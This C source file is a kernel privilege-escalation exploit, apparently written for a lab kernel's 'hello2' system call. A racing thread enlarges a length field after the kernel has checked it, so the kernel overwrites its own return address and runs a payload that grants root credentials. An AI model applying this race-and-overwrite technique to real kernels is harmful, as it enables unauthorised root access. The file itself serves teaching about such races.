/* SPDX-License-Identifier: MIT */
/*
 * race-len [CALLS]: wins root from a kernel whose hello2 checks the length of
 * the name and then reads it again.
 *
 * The victim asks for six bytes. The adversary makes that more than the
 * kernel's buffer holds, at the right moment: then the kernel itself copies
 * our bytes over the return address on its stack, and returns to payload(),
 * in user memory, with all its privileges.
 */
#include <errno.h>
#include <race.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define GOOD 6 /* beagle */
/*
 * Past the return address of any hello2, and short of the stack's end, which
 * is pt_regs and a few saved registers away.
 */
#define EVIL 160
#define FIRST 8 /* bytes kept for the name itself */

/* lib/payload.S */
void payload(void);
long call_hello2(struct hello2_in *in, struct hello2_out *out);
extern unsigned long prepare_kernel_cred, commit_creds; /* for payload() */

static unsigned long name[EVIL / sizeof(unsigned long)];
static struct hello2_in in = { (char *)name, GOOD, 7 };
static struct hello2_out out;

static void *adversary(void *unused)
{
	while (race_goes_on()) {
		in.len = EVIL;
		sched_yield();
		in.len = GOOD;
	}
	return NULL;
}

/* "beagle", and behind it one address over and over. */
static void fill_name(void)
{
	unsigned int i;

	for (i = 0; i < EVIL / sizeof(unsigned long); i++)
		name[i] = (unsigned long)payload;
	memcpy(name, "beagle", GOOD + 1);
}

int main(int argc, char *argv[])
{
	unsigned int calls = argc > 1 ? strtoul(argv[1], NULL, 0) : 1;

	prepare_kernel_cred = kernel_symbol("prepare_kernel_cred");
	commit_creds = kernel_symbol("commit_creds");
	fill_name();
	if (setuid(NOBODY) || race_begin(adversary)) {
		perror("race-len");
		return 2;
	}
	printf("uid %u, setuid(0) gives %d\n", getuid(), setuid(0));

	while (calls-- && getuid())
		call_hello2(&in, &out);
	race_end();

	printf("uid %u\n", getuid());
	return getuid() ? 1 : 0;
}
